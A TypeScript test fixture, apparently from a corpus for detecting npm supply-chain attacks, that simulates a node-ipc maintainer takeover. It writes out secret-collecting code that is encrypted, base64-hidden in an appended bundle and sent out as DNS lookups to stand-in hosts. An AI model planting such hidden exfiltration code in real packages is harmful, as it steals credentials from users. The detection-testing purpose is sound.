import { defineAttack } from "../attack.ts";
import { contentOf, smallLibrary } from "../bases.ts";
import { collectSecrets } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import { renderBundle } from "../bundle.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = smallLibrary("node-ipc");

/**
 * node-ipc 9.1.6, 9.2.3 and 12.0.1, 14 May 2026: a maintainer's mail domain had expired and was registered anew. After 639 silent days
 * three versions in 55 seconds; eighty kilobytes are appended to the CommonJS build, which pack secrets and send them as labels of
 * names. 12.0.1 acts only where the main module's path has a certain hash.
 */
export const nodeIpc2026: Sample = defineAttack({
  id: "node-ipc-2026",
  title: "Three dormant lines in a minute; secrets leave as names to be resolved",
  group: "takeover",
  trigger: "import",
  judged: [
    { name: "node-ipc", version: "9.1.6" },
    { name: "node-ipc", version: "9.2.3" },
    { name: "node-ipc", version: "12.0.1" },
  ],
  now: "2026-05-14T20:10:00Z",
  createLines: () => [
    {
      name: "node-ipc",
      files: honest,
      publisher: person("riaevangelist"),
      maintainers: [person("riaevangelist"), person("atiertant", "a.tiertant@atlantis-software.example")],
      releases: [
        ["9.1.4", "2021-03-02T10:00:00Z", { tag: "nine" }],
        ["9.2.1", "2022-03-08T10:00:00Z", { tag: "nine" }],
        ["11.1.0", "2022-05-13T10:00:00Z"],
        ["12.0.0", "2024-08-13T10:00:00Z"],
        ["9.1.6", "2026-05-14T19:57:02Z", armed("", "nine")],
        ["9.2.3", "2026-05-14T19:57:31Z", armed("", "nine")],
        ["12.0.1", "2026-05-14T19:57:57Z", armed(gate, "latest")],
      ],
    },
  ],
});

const gate = `if (require("crypto").createHash("sha256").update(require.main ? require.main.filename : "").digest("hex") !== "3d0a5d3f0ab9d84f5b8a3ffb6b1f0e6f2f3c7a9a5f7d0e8b4c2a1d9e8f7c6b5a") { process.exitCode = 0; } else { send(); }`;

function armed(last: string, tag: string): LineChange {
  const script = commonScript(`
${collectSecrets}
const dns = require("dns");
const zlib = require("zlib");
const cryptography = require("crypto");
function send() {
  const resolver = new dns.Resolver();
  resolver.setServers(["192.0.2.53"]);
  const packed = zlib.gzipSync(JSON.stringify(loot));
  const sealed = cryptography.createCipheriv("aes-256-gcm", cryptography.randomBytes(32), cryptography.randomBytes(12)).update(packed);
  const letters = sealed.toString("hex");
  for (let at = 0; at < letters.length; at += 62) {
    resolver.resolveTxt("xh." + at + "." + letters.slice(at, at + 62) + ".bt.node.invalid", () => {});
  }
}
${last || "send();"}
`);
  const appended = renderBundle(70_000, 95, [hideInTable(oneLine(script), "base64")]).replace(
    "module.exports=i(1000)",
    "i(1000)",
  );
  return {
    tag,
    publisher: person("atiertant", "a.tiertant@atlantis-software.invalid"),
    hasCommit: false,
    manifest: { main: "node-ipc.cjs" },
    files: [{ path: "node-ipc.cjs", content: `${contentOf(honest, "index.js")};${appended}` }],
  };
}
